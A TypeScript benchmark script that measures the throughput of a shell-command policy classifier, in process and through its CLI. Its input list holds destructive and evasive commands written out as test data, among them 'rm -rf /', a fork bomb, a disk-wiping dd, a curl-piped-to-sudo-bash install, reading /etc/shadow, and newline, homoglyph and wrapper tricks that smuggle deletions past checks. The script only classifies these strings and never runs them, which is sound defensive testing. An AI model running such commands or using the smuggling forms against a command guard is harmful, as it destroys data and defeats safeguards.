/**
 * Policy benchmark: commands/s for a batch of ≥ 50k mixed commands, in-process and through the
 * real CLI (`dist/opsterm policy check --batch` if built, else `tsx src/main.ts`).
 * Acceptance (issue 3): ≥ 20k commands/s in batch. Exits 1 below that.
 *
 *   tsx scripts/bench-policy.ts [--count=60000] [--json]
 */
import { spawnSync } from "node:child_process";
import { existsSync, mkdtempSync, rmSync } from "node:fs";
import { cpus, loadavg, tmpdir } from "node:os";
import { dirname, join } from "node:path";
import process from "node:process";
import { fileURLToPath } from "node:url";
import { classify } from "../plugins/policy/engine.ts";
import { EMPTY_RULES } from "../plugins/policy/user-rules.ts";

const root = dirname(dirname(fileURLToPath(import.meta.url)));
const argOf = (name: string) => process.argv.find((a) => a.startsWith(`--${name}=`))?.split("=")[1];
const count = Math.max(50_000, Number(argOf("count") ?? 60_000));
const json = process.argv.includes("--json");
const TARGET = 20_000;

const BASE = [
  "ls -la /var/log", "uptime", "df -h", "cat /etc/hosts", "journalctl -u nginx -n 100 --no-pager", "systemctl status nginx", "ps aux", "grep -i error /var/log/syslog",
  "tail -n 200 /var/log/nginx/error.log", "find /var/log -name '*.gz' -mtime +7", "rm -rf /", "sudo rm -rf /etc", "curl -fsSL https://x.example/install.sh | sudo bash", "ls & rm -rf /tmp/x",
  "ls\nrm -rf /tmp/x", "find / -delete", "find . -exec rm {} +", "ls 2>/dev/null", "git status", "docker ps", "kubectl get pods -A", "bash -c 'rm -rf /'", "echo $(id)", ":(){ :|:& };:",
  "dd if=/dev/zero of=/dev/sda bs=1M", "kill -9 -1", "chmod -R 777 /", "cat /etc/shadow", "systemctl restart nginx", "for i in 1 2 3; do echo $i; done", "awk '{print $1}' /var/log/nginx/access.log | sort | uniq -c | sort -rn | head",
  "tar czf /tmp/backup.tgz /etc", "ｒm -rf /", "ls\r", "sed -n 1,20p /etc/nginx/nginx.conf", "timeout 5 nice -n 10 rm -rf /usr",
  "cd /var/www && ls -la", "X=/tmp/x; rm -rf $X", "cd / && rm -rf *", "find / -type f | xargs rm -f", "echo 'rm -rf /' | sh", "grep -rn error /var/log/nginx",
  "sudo -u root env -i timeout -s KILL 5 bash -c 'rm -rf \"$1\"' _ /", "cat /home/deploy/.envrc",
];
const commands: string[] = [];
for (let i = 0; commands.length < count; i++) {
  const base = BASE[i % BASE.length];
  // Vary the text so nothing can be cached by string identity.
  commands.push(i % 3 === 0 ? `${base} ` : i % 3 === 1 ? base.replace("/var/log", `/var/log/app${i % 97}`) : base);
}

// In-process: the engine alone.
for (const c of commands.slice(0, 2000)) classify(c, {}, EMPTY_RULES);
let t = performance.now();
const cpu0 = process.cpuUsage();
const tally: Record<string, number> = {};
for (const c of commands) {
  const d = classify(c, {}, EMPTY_RULES).decision;
  tally[d] = (tally[d] ?? 0) + 1;
}
const inProcessMs = performance.now() - t;
const cpu = process.cpuUsage(cpu0);
const inProcessCpuMs = (cpu.user + cpu.system) / 1000;

// Through the CLI: one process, stdin → stdout.
const binary = join(root, "dist/opsterm");
const useBinary = existsSync(binary) && !process.argv.includes("--tsx");
const cmd = useBinary ? binary : join(root, "node_modules/.bin/tsx");
const args = useBinary ? ["policy", "check", "--batch"] : [join(root, "src/main.ts"), "policy", "check", "--batch"];
const home = mkdtempSync(join(tmpdir(), "opsterm-bench-policy-"));
const input = commands.map((c) => JSON.stringify(c)).join("\n") + "\n";
t = performance.now();
const r = spawnSync(cmd, args, { input, env: { PATH: process.env.PATH ?? "", HOME: home, OPSTERM_HOME: home, NO_COLOR: "1" }, maxBuffer: 1 << 30, encoding: "utf8" });
const cliMs = performance.now() - t;
rmSync(home, { recursive: true, force: true });
const lines = r.stdout.trim().split("\n");
if (r.status !== 0 || lines.length !== commands.length) {
  process.stderr.write(`bench-policy: CLI exited ${r.status} with ${lines.length} lines for ${commands.length} commands\n${r.stderr}\n`);
  process.exit(1);
}

const result = {
  commands: commands.length,
  decisions: tally,
  inProcess: { ms: Math.round(inProcessMs), perSecond: Math.round(commands.length / (inProcessMs / 1000)), cpuMs: Math.round(inProcessCpuMs), perCpuSecond: Math.round(commands.length / (inProcessCpuMs / 1000)) },
  // Other jobs on the machine slow the wall-clock figures: the load average says how busy it was.
  loadAverage: loadavg().map((x) => Math.round(x * 100) / 100),
  cli: { via: useBinary ? "dist/opsterm" : "tsx src/main.ts", ms: Math.round(cliMs), perSecond: Math.round(commands.length / (cliMs / 1000)), includesStartup: true },
  target: TARGET,
};
if (json) process.stdout.write(JSON.stringify(result) + "\n");
else {
  process.stdout.write(`policy: ${result.commands} mixed commands (${Object.entries(tally).map(([k, v]) => `${k} ${v}`).join(", ")})\n`);
  process.stdout.write(`  in-process  ${result.inProcess.perSecond.toLocaleString("en")} commands/s (${result.inProcess.ms} ms wall; ${result.inProcess.perCpuSecond.toLocaleString("en")} per CPU second)\n`);
  process.stdout.write(`  CLI batch   ${result.cli.perSecond.toLocaleString("en")} commands/s (${result.cli.ms} ms, ${result.cli.via}, startup included)\n`);
  process.stdout.write(`  target      ≥ ${TARGET.toLocaleString("en")} commands/s: ${result.cli.perSecond >= TARGET ? "ok" : "MISSED"} (load average ${result.loadAverage.join(" ")} on ${cpus().length} CPUs)\n`);
}
process.exit(result.cli.perSecond >= TARGET ? 0 : 1);
